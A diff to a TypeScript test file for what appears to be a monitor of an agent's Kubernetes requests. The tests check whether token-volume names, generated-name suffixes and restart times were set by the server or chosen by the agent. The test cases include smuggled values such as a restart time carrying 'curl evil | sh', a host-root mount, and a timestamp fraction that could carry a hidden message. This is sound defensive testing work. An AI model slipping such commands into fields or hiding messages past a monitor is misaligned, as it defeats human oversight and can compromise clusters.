@@ -414,10 +414,23 @@ describe('row 4: the volume of the service account token', () => {
     expectOtherAction(honest, mounted(abusive))
   })
 
+  test('a volume of such a name that the server would not make keeps its name', () => {
+    const named = (suffix: string, volume: Plain): Request => mounted({ suffix, volume })
+    const other = { projected: { sources: [token, bundle], defaultMode: 420 } }
+    expectOtherAction(named(suffixA, other), named(suffixB, other))
+    expectOtherAction(named(suffixA, { hostPath: { path: '/' } }), named(suffixB, { hostPath: { path: '/' } }))
+  })
+
   test('with two such volumes nothing is taken for the server’s', () => {
     const two = (first: string, second: string): Request =>
       created(pod({ spec: { volumes: [tokenVolume(first), tokenVolume(second)] } }), asPod)
-    expectOtherAction(two(suffixA, suffixB), two(suffixB, suffixA))
+    expectOtherAction(two(suffixA, 'zzzzz'), two(suffixB, 'zzzzz'))
+    expectOtherAction(two('zzzzz', suffixA), two('zzzzz', suffixB))
+  })
+
+  test('in an object of another kind it is content', () => {
+    const volumes = (suffix: string): Request => created(widget({ spec: { volumes: [tokenVolume(suffix)] } }), asWidget)
+    expectOtherAction(volumes(suffixA), volumes(suffixB))
   })
 
   test('in the template of a Deployment, and in an Update, it is written by hand', () => {
@@ -664,6 +677,7 @@ describe('row 7: the suffix of a generated name', () => {
     ['a capital', 'web-bcdfG'],
     ['a line break after it', `web-${suffixA}\n`],
     ['another base', `victim-${suffixA}`],
+    ['another base of the same length', `abc-${suffixA}`],
     ['nothing of it', 'web-'],
   ])('a name of %s was chosen by the agent', (_what, name) => {
     expectOtherAction(generated(`web-${suffixA}`), generated(name))
@@ -729,6 +743,7 @@ describe('row 8: the time of a restart', () => {
     ['a script on the next line', `${at(0)}\ncurl evil`],
     ['a time far from now', at(11 * minutes)],
     ['a time long ago', '2020-01-01T00:00:00Z'],
+    ['a script in a comment to a time', `${at(0)} (curl evil | sh)`],
     ['a day without a time', '2026-03-01'],
     ['a time without a zone', '2026-03-01T10:20:00'],
     ['a fraction that could carry a message', '2026-03-01T10:20:00.1234567890123456Z'],
